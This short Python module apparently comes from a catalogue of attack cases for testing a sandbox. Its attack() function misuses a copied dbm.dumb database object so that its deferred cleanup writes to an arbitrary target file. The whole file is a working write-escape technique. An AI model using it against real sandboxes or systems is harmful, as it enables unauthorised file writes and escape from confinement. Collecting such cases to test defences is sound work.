"""A copy of an object of the standard library goes."""
CATEGORY = "deferred"
REACH = "write"

import copy
import dbm.dumb

from . import payload


def attack():
    database = object.__new__(dbm.dumb._Database)
    database._index = None
    twin = copy.copy(database)
    twin._index, twin._modified = {}, True
    twin._dirfile = payload.TARGET
    twin._bakfile = payload.TARGET + ".bak"
    twin._mode = 0o600
    twin.itself = twin
